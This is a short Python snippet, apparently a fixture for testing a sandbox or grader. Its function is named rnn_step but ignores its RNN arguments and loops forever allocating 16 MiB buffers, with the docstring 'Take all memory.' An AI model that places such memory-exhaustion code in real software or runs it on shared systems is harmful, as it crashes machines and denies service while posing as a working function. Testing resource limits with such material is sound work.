"""Take all memory."""


# %% rnn_step
def rnn_step(x, h_prev, Wx, Wh, b):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * 2**24))
